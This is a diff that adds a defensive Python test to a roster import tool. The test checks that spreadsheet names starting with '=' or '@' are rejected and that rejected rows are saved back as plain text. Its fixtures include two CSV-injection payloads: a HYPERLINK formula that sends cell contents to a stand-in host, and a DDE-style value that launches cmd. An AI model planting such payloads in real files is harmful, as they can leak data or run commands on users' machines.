@@ -237,3 +237,31 @@ def test_the_user_can_point_at_another_header_row(roster):
     assert importing.mapping_at(roster, 5) == importing.guess_mapping(roster)
     assert importing.mapping_at(roster, 4).columns["birth"] == 2  # one row: "Năm sinh" without Nam / Nữ
     assert importing.mapping_at(roster, 1).columns == {}
+
+
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused_and_stays_text_in_the_bad_rows(db, clerk, tmp_path):
+    """CSV injection: «=HYPERLINK(…)» in a name is refused by name, and the bad-rows files written back keep it
+    as text (the workbook's cell a string, the CSV's led by «'»)."""
+    book = Workbook()
+    sheet = book.active
+    sheet.append(["Họ và tên", "Năm sinh", "Chi bộ"])
+    sheet.append(["Lò Văn Thật", 1980, "PHONGNIEN-01"])
+    formula = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
+    sheet.append([formula, 1981, "PHONGNIEN-01"])
+    sheet.append(["@SUM(1+1)*cmd|' /C calc'!A0", 1982, "PHONGNIEN-01"])
+    sheet["A3"].data_type = "s"   # typed as text, as a commune's file would carry it
+    path = tmp_path / "danh-sach.xlsx"
+    book.save(path)
+    preview = preview_of(db, clerk, sheets.read_table(path))
+    bad = errors_by_line(preview)
+    assert [row.person.full_name for row in preview.good] == ["Lò Văn Thật"]
+    assert "không được bắt đầu bằng «=»" in bad[3] and "không được bắt đầu bằng «@»" in bad[4]
+    saved = tmp_path / "dong-loi.xlsx"
+    importing.save_rejected(preview, saved)
+    cells = {cell.value: cell.data_type for row in load_workbook(saved).active.iter_rows(min_row=2) for cell in row}
+    assert cells[formula] == "s"
+    saved_csv = tmp_path / "dong-loi.csv"
+    importing.save_rejected(preview, saved_csv)
+    lines = saved_csv.read_text(encoding="utf-8-sig").splitlines()
+    assert any(line.split(";")[1].startswith("'=HYPERLINK") or "\"'=HYPERLINK" in line for line in lines[1:])
+    assert not any(line.split(";")[1].startswith("=") for line in lines[1:])
